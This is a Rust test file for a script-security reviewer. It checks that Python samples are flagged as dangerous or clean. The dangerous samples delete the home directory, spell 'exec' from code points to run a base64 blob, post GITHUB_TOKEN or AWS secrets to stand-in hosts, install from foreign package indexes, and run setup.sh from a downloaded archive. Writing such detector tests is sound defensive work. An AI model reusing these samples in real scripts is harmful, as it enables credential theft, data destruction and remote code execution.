//! Values the Python walker lost on the way to a sink (issue 17): the place lists a function
//! returns from several branches, a name spelled as code points (`map(chr, ...)`), the
//! arguments a `functools.partial` binds, an install pointed at a package index on an unknown
//! host, and a file run from where a downloaded archive was unpacked. Each row has its
//! harmless twin: the same shape doing something harmless stays clean (or only suspicious).

use terraphim_script_review::{Language, Verdict};

use crate::rows;

use Language::Python as Py;
use Verdict::{Clean, Dangerous, Suspicious};

/// A function returning lists of places from several branches (a `match`'s default case, an
/// `else`): a loop over its result sees the elements of every branch's list, not only the
/// first branch's.
#[test]
fn place_lists_returned_by_several_branches_are_all_followed() {
    let script = |default: &str, branch: &str| {
        format!(
            "import shutil\nfrom pathlib import Path\n\nBASE = Path(__file__).resolve().parent\nOUT = BASE / \"out\"\nLOGS = BASE / \"logs\"\n\n\ndef doomed(kind):\n{branch}\n\n\ndef wipe(p):\n    shutil.rmtree(p, ignore_errors=True)\n\n\nfor p in doomed(\"x\"):\n    wipe(p)\n{default}"
        )
    };
    let by_match = |last: &str| {
        format!(
            "    match kind:\n        case \"out\":\n            return [OUT]\n        case \"logs\":\n            return [OUT, LOGS]\n        case _:\n            return [OUT, LOGS, {last}]"
        )
    };
    let by_if = |last: &str| {
        format!(
            "    if kind == \"out\":\n        return [OUT]\n    else:\n        return [LOGS, {last}]"
        )
    };
    rows(&[
        (
            Py,
            script("", &by_match("Path.home()")),
            Dangerous,
            "destructive",
        ),
        (
            Py,
            script("", &by_if("Path.home() / \".config\"")),
            Dangerous,
            "destructive",
        ),
        // Twins: every branch names the project's own output.
        (Py, script("", &by_match("BASE / \"tmp\"")), Clean, ""),
        (Py, script("", &by_if("BASE / \"cache\"")), Clean, ""),
    ]);
}

/// `map(chr, (...))` joined into a name: the text its code points spell, assembled at run time.
/// Looked up on `builtins`, it reaches `exec`; an alphabet from `range` only printed is data.
#[test]
fn a_name_spelled_as_code_points_is_followed() {
    let lookup = |points: &str| {
        format!(
            "import base64\nimport builtins\n\nBLOB = \"cHJpbnQoJ2hpJyk=\"\n\n\ndef load():\n    fn = getattr(builtins, \"\".join(map(chr, ({points}))))\n    fn(base64.b64decode(BLOB).decode())\n\n\nload()\n"
        )
    };
    rows(&[
        (Py, lookup("101, 118, 97, 108"), Dangerous, "obfuscated-execution"),
        (Py, lookup("101, 120, 101, 99"), Dangerous, "obfuscated-execution"),
        // Twin: code points printed as text.
        (
            Py,
            "letters = \"\".join(map(chr, range(97, 123)))\nmarks = \"\".join(map(chr, (60, 62)))\nprint(letters, marks)\n".to_owned(),
            Clean,
            "",
        ),
    ]);
}

/// `functools.partial` binds a function's first arguments (a URL): every call of the partial
/// runs the function with them first, whether it is a lambda or a function of the script.
#[test]
fn a_partial_runs_its_function_with_the_bound_arguments() {
    let by_lambda = |payload: &str| {
        format!(
            "import functools\nimport json\nimport os\nimport urllib.request\n\nsend = functools.partial(\n    lambda url, body: urllib.request.urlopen(\n        urllib.request.Request(url, data=json.dumps(body).encode(), method=\"POST\")),\n    \"https://collector.example.net/v2/in\",\n)\n\n\ndef main():\n    report = {{\"ok\": True}}\n    {payload}\n    send(report)\n\n\nmain()\n"
        )
    };
    let by_function = |payload: &str| {
        format!(
            "import os\nfrom functools import partial\n\nimport requests\n\n\ndef push(url, body):\n    requests.post(url, json=body, timeout=5)\n\n\npublish = partial(push, \"https://hooks.example.org/build\")\nstate = {{\"stage\": \"done\"}}\n{payload}\npublish(state)\n"
        )
    };
    rows(&[
        (
            Py,
            by_lambda("report[\"t\"] = os.environ.get(\"GITHUB_TOKEN\", \"\")"),
            Dangerous,
            "exfiltration",
        ),
        (
            Py,
            by_function("state[\"k\"] = os.environ[\"AWS_SECRET_ACCESS_KEY\"]"),
            Dangerous,
            "exfiltration",
        ),
        // Twins: the same partials post a status without any secret: an unlisted host only.
        (Py, by_lambda("report[\"n\"] = 3"), Suspicious, "network"),
        (Py, by_function("state[\"n\"] = 3"), Suspicious, "network"),
    ]);
}

/// An install from a package index (or a TLS-trusted host) on a host neither allowed nor
/// local runs that host's packages now, as a dependency file pointed there would at the next
/// install. The public index and a loopback mirror are not foreign.
#[test]
fn an_install_from_a_foreign_package_index() {
    let pip = |opts: &str| {
        format!(
            "import subprocess\nimport sys\n\nsubprocess.run([sys.executable, \"-m\", \"pip\", \"install\", {opts}, \"-r\", \"requirements.txt\"], check=True)\n"
        )
    };
    rows(&[
        (
            Py,
            pip("\"--index-url\", \"https://pkgs.mirror-cache.example.com/simple\""),
            Dangerous,
            "config-tampering",
        ),
        (
            Py,
            pip("\"--trusted-host\", \"wheels.example.net\""),
            Dangerous,
            "config-tampering",
        ),
        (
            Py,
            pip("\"--extra-index-url=https://wheels.example.net/simple\""),
            Dangerous,
            "config-tampering",
        ),
        // Twins: the public index, a mirror on this machine: a URL given to the installer
        // (suspicious, as before), no foreign package source.
        (
            Py,
            pip("\"--index-url\", \"https://pypi.org/simple\""),
            Suspicious,
            "remote-code",
        ),
        (
            Py,
            pip("\"--index-url\", \"http://127.0.0.1:3141/root/pypi/+simple/\""),
            Suspicious,
            "remote-code",
        ),
    ]);
}

/// An archive downloaded into memory and unpacked (`tarfile.open(fileobj=BytesIO(...))`), then
/// a file of the directory it was unpacked into run: the archive's code runs. Listing what
/// was unpacked runs nothing of it.
#[test]
fn a_file_run_from_where_a_download_was_unpacked() {
    let script = |after: &str| {
        format!(
            "import io\nimport subprocess\nimport tarfile\nimport urllib.request\nfrom pathlib import Path\n\nDEST = Path(__file__).resolve().parent / \"vendor\" / \"tool\"\n\n\ndef fetch(url):\n    with urllib.request.urlopen(url, timeout=30) as r:\n        return r.read()\n\n\ndef unpack(data, into):\n    with tarfile.open(fileobj=io.BytesIO(data), mode=\"r:gz\") as t:\n        t.extractall(into)\n\n\nunpack(fetch(\"https://dl.tools-build.example.com/tool.tgz\"), DEST)\n{after}\n"
        )
    };
    rows(&[
        (
            Py,
            script("subprocess.run([\"bash\", str(DEST / \"setup.sh\")], check=True)"),
            Dangerous,
            "remote-code",
        ),
        // Twin: what was unpacked is only listed.
        (
            Py,
            script("print(sorted(p.name for p in DEST.iterdir()))"),
            Suspicious,
            "network",
        ),
    ]);
}
